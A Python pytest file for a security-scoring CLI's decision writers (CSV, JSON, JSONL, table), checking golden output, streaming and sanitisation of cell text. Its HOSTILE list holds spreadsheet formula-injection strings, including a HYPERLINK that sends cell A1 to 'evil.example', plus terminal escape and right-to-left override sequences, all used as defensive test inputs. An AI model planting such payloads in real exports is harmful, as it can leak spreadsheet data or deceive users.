"""Decisions written out: the same bytes every time, and nothing in them that a program would run.

``UPDATE_GOLDEN=1 pytest tests/scoring/cli/output/test_decisions.py`` writes the golden files anew:
look at the difference.
"""

import csv
import io
import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, BinaryIO

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from scoring.cli.output.decisions import (
    COLUMNS,
    WRITERS,
    write_csv,
    write_json,
    write_jsonl,
    write_table,
)
from scoring.decision.decide import Decision
from scoring.decision.guardrails import Guardrail
from scoring.explanation.safe_text import harmless
from scoring.findings.finding import Finding
from scoring.findings.record import Case
from scoring.policy.policy import Policy
from scoring.scorecard.scorecard import Contribution, Model

GOLDEN = Path(__file__).parents[3] / "golden"
DIGEST = "0123456789abcdef" * 4

HOSTILE = (
    "arn:aws:s3:::plain",
    '=HYPERLINK("http://evil.example/"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    'quotes " and, commas; and\nlines',
    "\x1b[2J\x1b]0;title\x07",
    "\u202eright to left",
    "naïve-バケット",
)


def decision(**changes: Any) -> Decision:
    plain = Decision(
        finding_id="f-1",
        resource="arn:aws:s3:::plain",
        resource_type="AWS::S3::Bucket",
        account="000011112222",
        finding_type="ExternalAccess",
        status="ACTIVE",
        outcome="alert",
        score=-12.5,
        threshold=30.0,
        base=10.0,
        contributions=[
            Contribution("trust", "stranger", 7.5, "a stranger"),
            Contribution("condition × trust", "none × stranger", -30.0, "none"),
        ],
        risk=None,
        guardrails=(Guardrail("public", "open"), Guardrail("never_archive", "rule")),
        unknown=("tags", "aliases"),
        model=Model("golden", "1", "weighted", DIGEST),
        reason="guardrail: public, never_archive",
    )
    return msgspec.structs.replace(plain, **changes)


def decided(*decisions: Decision) -> list[tuple[Case, Decision]]:
    return [
        (
            Case(
                finding=Finding(
                    id=one.finding_id,
                    resource=one.resource,
                    resource_type=one.resource_type,
                    status=one.status,
                    finding_type=one.finding_type,
                ),
                raw={},
            ),
            one,
        )
        for one in decisions
    ]


def written(write: Callable[[Any, BinaryIO, Policy], None], *decisions: Decision) -> bytes:
    out = io.BytesIO()
    write(decided(*decisions), out, Policy())
    return out.getvalue()


def rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))


@pytest.mark.parametrize("name", ["csv", "jsonl"])
def test_hostile_names_match_the_golden_file(name):
    hostile = [decision(finding_id=f"f-{n}", resource=text, reason=text) for n, text in enumerate(HOSTILE)]
    content = written(WRITERS[name], *hostile)
    path = GOLDEN / f"decisions.{name}"
    if "UPDATE_GOLDEN" in os.environ:
        path.write_bytes(content)
    assert content == path.read_bytes()


def test_json_lines_hold_the_decision_as_it_is():
    [line] = written(write_jsonl, decision()).splitlines()
    assert msgspec.json.decode(line, type=Decision) == decision()
    assert list(json.loads(line)) == [
        *("finding_id", "resource", "resource_type", "account", "finding_type", "status", "outcome"),
        *("score", "threshold", "base", "contributions", "risk", "guardrails", "unknown", "model", "reason"),
        *("known", "severity", "region", "analyzer", "principals", "actions", "is_public", "analysis_error"),
    ]


@pytest.mark.parametrize("count", [0, 1, 3])
def test_a_json_array_holds_the_same(count):
    some = [decision(finding_id=str(n)) for n in range(count)]
    lines = written(write_jsonl, *some).splitlines()
    assert json.loads(written(write_json, *some)) == [json.loads(line) for line in lines]


def test_csv_has_a_row_a_decision():
    content = written(write_csv, decision(risk=0.031), decision(threshold=None, account=None))
    first, second = rows(content)
    assert tuple(first) == COLUMNS
    assert (first["score"], first["threshold"], first["risk"]) == ("-12.5", "30.0", "0.031")
    assert (second["threshold"], second["account"], second["risk"]) == ("", "", "")
    assert first["account"] == "000011112222"
    assert first["contributions"] == "trust=+7.5; condition × trust=-30.0"
    assert first["guardrails"] == "public; never_archive"
    assert first["unknown"] == "tags; aliases"
    assert first["model_sha256"] == DIGEST


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "＝1", "\uff0b1", "\uff0d1", "\uff201"])
def test_a_formula_is_only_text(text):
    assert harmless(text) == "'" + text


@given(st.text())
def test_no_text_is_a_formula_or_moves_the_cursor(text):
    cell = harmless(text)
    assert cell.isprintable()
    assert not cell.startswith(("=", "+", "-", "@"))


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5))
def test_csv_is_read_back_cell_by_cell(names):
    content = written(write_csv, *(decision(resource=name) for name in names))
    assert [row["resource"] for row in rows(content)] == [harmless(name) for name in names]


def test_the_table_counts_the_outcomes():
    content = written(write_table, decision(), decision(outcome="archive")).decode("utf-8")
    assert "2 findings: 1 alert, 1 archive" in content
    assert "\x1b" not in content


@pytest.mark.parametrize("name", sorted(WRITERS.keys() - {"table", "parquet", "sarif"}))
def test_decisions_are_written_as_they_come(name):
    """Nothing waits for the end: what holds all decisions in memory could not take a long file.

    The table keeps the rows that a screen may show, Parquet a thousand rows and its metadata. SARIF names its
    rules, with the worst of each, before any result: it holds all, for files as short as code hosts take.
    """
    out = io.BytesIO()
    sizes = []

    def one_by_one() -> Iterator[tuple[Case, Decision]]:
        for pair in decided(decision()) * 2000:
            sizes.append(out.tell())
            yield pair

    WRITERS[name](one_by_one(), out, Policy())
    assert sizes[1500] > 20_000
